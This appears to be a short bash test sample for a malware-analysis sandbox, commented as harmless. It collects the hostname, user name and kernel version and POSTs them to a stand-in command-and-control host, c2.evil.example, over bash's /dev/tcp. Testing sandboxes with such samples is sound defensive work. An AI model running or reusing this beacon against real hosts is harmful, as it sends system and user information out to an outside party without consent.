#!/bin/bash
# Harmless: resolves a made-up C2 name and POSTs host facts to it over bash's /dev/tcp. In the
# analysis sandbox the name resolves to a sinkhole address and airlock answers; nothing leaves.
c2=c2.evil.example
getent hosts "$c2" >/dev/null || exit 0
data="host=$(hostname)&user=$(id -un)&kernel=$(uname -r)"
exec 3<>"/dev/tcp/$c2/80" || exit 0
printf 'POST /api/beacon HTTP/1.1\r\nHost: %s\r\nUser-Agent: beacon/1.0\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s' \
  "$c2" "${#data}" "$data" >&3
timeout 3 cat <&3 >/dev/null
exit 0
